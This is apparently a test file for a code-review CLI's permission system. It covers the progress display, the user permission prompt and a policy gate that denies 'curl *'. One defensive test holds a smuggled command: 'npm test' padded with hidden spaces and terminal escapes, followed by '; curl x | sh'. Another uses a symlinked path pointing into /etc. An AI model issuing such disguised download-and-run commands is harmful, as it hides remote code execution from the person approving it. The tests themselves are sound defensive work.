// The terminal side of `warden review`: the progress display, the interactive permission prompt
// and the local permission gate.
import { PassThrough, Writable } from "node:stream";
import { describe, expect, it } from "vitest";
import { createLocalGate } from "../../src/cli/local-permissions.js";
import { describeAsk, terminalAsker } from "../../src/cli/terminal-asker.js";
import { createProgress } from "../../src/cli/terminal-progress.js";
import { defaultRepoConfig } from "../../src/config/repo-config.js";
import type { PermissionAsk } from "../../src/core/model/permission.js";

function sink(): Writable & { text: () => string } {
  let text = "";
  const stream = new Writable({
    write(chunk: Buffer, _encoding, done) {
      text += chunk.toString();
      done();
    },
  });
  return Object.assign(stream, { text: () => text });
}

/** Polls `condition` on the event loop, for at most 2000 turns. */
async function until(condition: () => boolean): Promise<void> {
  for (let i = 0; i < 2000 && !condition(); i++) await new Promise((resolve) => setImmediate(resolve));
  expect(condition()).toBe(true);
}

const OPTIONS: PermissionAsk["options"] = [
  { optionId: "yes", name: "Allow", kind: "allow_once" },
  { optionId: "always", name: "Always", kind: "allow_always" },
  { optionId: "no", name: "Reject", kind: "reject_once" },
];
const ask = (over: Partial<PermissionAsk> = {}): PermissionAsk => ({
  toolCallId: "t1",
  kind: "execute",
  title: "npm test",
  command: "npm test",
  paths: [],
  reason: "run the tests",
  options: OPTIONS,
  ...over,
});

describe("progress on stderr", () => {
  it("prints plain lines off a terminal, and the plan again only when it changes", () => {
    const out = sink();
    const progress = createProgress(out, { interactive: false });
    progress.step("Checking out feature");
    progress.done("Checked out feature");
    progress.step("claude is reviewing 2 files");
    const plan = [
      { content: "Read the diff", status: "completed" as const },
      { content: "Check  error\nhandling", status: "in_progress" as const },
      { content: "Write the report", status: "pending" as const },
    ];
    progress.plan(plan);
    progress.plan(plan);
    progress.activity("Read src/a.ts");
    progress.notice("agent has no mode plan");
    progress.done();
    progress.stop();
    expect(out.text().replace(/\(\d+\.\d s\)/g, "(t)")).toBe(
      [
        "› Checking out feature…",
        "✓ Checked out feature (t)",
        "› claude is reviewing 2 files…",
        "Plan:",
        "  [x] Read the diff",
        "  [~] Check error handling",
        "  [ ] Write the report",
        "! agent has no mode plan",
        "✓ claude is reviewing 2 files (t)",
        "",
      ].join("\n"),
    );
  });

  it("redraws the plan and a spinner in place on a terminal, and leaves the plan on screen", () => {
    const out = sink();
    const progress = createProgress(Object.assign(out, { columns: 40 }), { interactive: true });
    progress.step("claude is reviewing 2 files");
    progress.plan([{ content: "Read the diff", status: "in_progress" }]);
    progress.activity("Read a very long file name that does not fit on the line");
    progress.done();
    progress.stop();
    const text = out.text();
    expect(text).toContain("⠋ claude is reviewing 2 files · 0.0 s\n");
    expect(text).toContain("\x1b[1A\x1b[0J");
    expect(text).toContain("Plan:\n  [~] Read the diff\n");
    expect(text).toMatch(/✓ claude is reviewing 2 files \(\d\.\d s\)\n/);
    expect(text.endsWith("Plan:\n  [~] Read the diff\n")).toBe(true);
    for (const line of text.split("\n")) expect(line.replace(/\x1b\[\d*[AJ]/g, "").length).toBeLessThanOrEqual(39);
  });
});

describe("the interactive permission prompt", () => {
  it("shows the request and asks until it gets y, n, a or nothing", async () => {
    const stdin = new PassThrough();
    const stderr = sink();
    const asker = terminalAsker({ stdin, stderr }, createProgress(sink(), { interactive: false }));
    const answer = asker(ask(), "p-abc123", new AbortController().signal);
    const prompts = () => stderr.text().match(/Allow\? \[y\]es \/ \[N\]o \/ \[a\]lways: /g)?.length ?? 0;
    stdin.write("maybe\n");
    // Like a person, answer once the question is asked again.
    await until(() => prompts() === 2);
    stdin.write("a\n");
    expect(await answer).toBe("allow_always");
    expect(stderr.text()).toContain(
      "🔐 The agent asks for permission (p-abc123): execute · npm test\n   command: npm test\n   reason:  run the tests\n",
    );
    expect(prompts()).toBe(2);

    const again = asker(ask(), "p-def456", new AbortController().signal);
    stdin.write("\n");
    expect(await again).toBe("reject");
  });

  it("answers no when the run ends while it waits", async () => {
    const controller = new AbortController();
    const answer = terminalAsker(
      { stdin: new PassThrough(), stderr: sink() },
      createProgress(sink(), { interactive: false }),
    )(ask(), "p-1", controller.signal);
    controller.abort();
    expect(await answer).toBe("reject");
  });

  it("shows the start of an edit's diff", () => {
    const diff = Array.from({ length: 30 }, (_, i) => `+line ${i}`).join("\n");
    const text = describeAsk(
      ask({ kind: "edit", title: "Edit a.ts", command: undefined, paths: ["a.ts"], reason: undefined, diff }),
      "p-2",
    );
    expect(text).toContain("   path:    a.ts\n   +line 0\n");
    expect(text).toContain("   +line 19\n   … 10 more lines\n");
  });
});

describe("the local permission gate", () => {
  const config = defaultRepoConfig().permissions;

  it("lets the repository policy decide first, then asks, and remembers `always` for the same call", async () => {
    const asked: string[] = [];
    const gate = createLocalGate({
      config: { ...config, auto: { allow: [{ kind: "read" }], deny: [{ kind: "execute", command: "curl *" }] } },
      workspaceDir: "/work/checkout",
      asker: async (a) => {
        asked.push(a.title);
        return "allow_always";
      },
    });
    const signal = new AbortController().signal;
    expect(
      await gate.decide(ask({ kind: "read", title: "Read a.ts", command: undefined, paths: ["a.ts"] }), signal),
    ).toEqual({ outcome: "selected", optionId: "yes" });
    expect(await gate.decide(ask({ title: "curl x", command: "curl x" }), signal)).toEqual({
      outcome: "selected",
      optionId: "no",
    });
    expect(await gate.decide(ask(), signal)).toEqual({ outcome: "selected", optionId: "always" });
    expect(await gate.decide(ask(), signal)).toEqual({ outcome: "selected", optionId: "yes" });
    expect(asked).toEqual(["npm test"]);
    expect(gate.audit.map((e) => [e.title, e.outcome, e.decidedBy])).toEqual([
      ["Read a.ts", "allowed", "policy"],
      ["curl x", "denied", "policy"],
      ["npm test", "allowed_always", "you"],
      ["npm test", "allowed", "you (always)"],
    ]);
    expect(gate.audit.every((e) => /^p-[a-z0-9]{6}$/.test(e.id))).toBe(true);
  });

  it("rejects without a terminal, and rejects unexplained requests when the policy wants reasons", async () => {
    const signal = new AbortController().signal;
    const noTerminal = createLocalGate({ config, workspaceDir: "/w" });
    expect(await noTerminal.decide(ask(), signal)).toEqual({ outcome: "selected", optionId: "no" });
    expect(noTerminal.audit[0]?.decidedBy).toBe("policy (not asked: no terminal)");
    const strict = createLocalGate({
      config: { ...config, requireJustification: true },
      workspaceDir: "/w",
      asker: async () => "allow",
    });
    expect(await strict.decide(ask({ reason: undefined }), signal)).toEqual({ outcome: "selected", optionId: "no" });
    expect(strict.audit[0]?.decidedBy).toBe("policy (no reason given)");
  });
});

describe("describeAsk shows the request whole and inert (issue 11)", () => {
  it("makes terminal escape sequences, hidden space runs and symlinked paths visible", () => {
    const text = describeAsk(
      ask({
        command: `npm test${" ".repeat(300)}\u001b[2K\r; curl x | sh`,
        paths: ["docs/link/x"],
        resolvedPaths: ["/etc/x"],
      }),
      "p-3",
    );
    expect(text).toContain("   command: npm test⟨300 spaces⟩⟨U+001B⟩[2K⟨CR⟩; curl x | sh\n");
    expect(text).toContain("   path:    docs/link/x → resolves to /etc/x\n");
    expect(text).not.toContain("\u001b");
  });
});
